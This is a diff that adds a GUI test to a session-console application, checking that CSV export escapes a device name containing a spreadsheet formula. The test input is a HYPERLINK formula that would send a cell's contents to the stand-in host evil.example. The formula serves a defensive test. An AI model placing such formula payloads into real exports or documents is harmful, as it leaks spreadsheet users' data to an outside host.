@@ -278,6 +278,30 @@ class LiveConsoleGuiTest extends GuiTestBase {
                 .as("the column choice is remembered").contains("sessions.hiddenColumns=");
     }
 
+    @Test
+    void exportWritesADeviceNameThatIsAFormulaAsText() throws Exception {
+        String tag = "Formula" + UUID.randomUUID().toString().substring(0, 6);
+        String model = "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"" + tag + "\")";
+        Device device = server.login(server.freshStaff().username(), "EVV", model);
+        Path file = home.resolve("sessions-" + tag + ".csv");
+        exportTo.set(file);
+        openSignedIn();
+        search(tag, 1);
+
+        press(KeyCode.CONTROL, KeyCode.E).release(KeyCode.E, KeyCode.CONTROL);
+
+        waitUntil("the export is written", () -> Files.exists(file)
+                && notification() != null && notification().startsWith("Exported 1 session"));
+        Session session = server.sessions().stream().filter(s -> s.id().equals(device.sessionId())).findFirst().orElseThrow();
+        try (Reader reader = Files.newBufferedReader(file, StandardCharsets.UTF_8)) {
+            List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().get().parse(reader).getRecords();
+            assertThat(records).hasSize(1);
+            assertThat(records.get(0).get("Device")).as("opens as text, not as a live formula")
+                    .isEqualTo("'" + model + " · " + session.deviceOs());
+            assertThat(records.get(0).get("Username")).isEqualTo(session.username());
+        }
+    }
+
     private Node rowNode(int index) {
         return fx(() -> sessions().lookupAll(".table-row-cell").stream()
                 .filter(n -> n instanceof TableRow<?> row && row.getIndex() == index && !row.isEmpty())
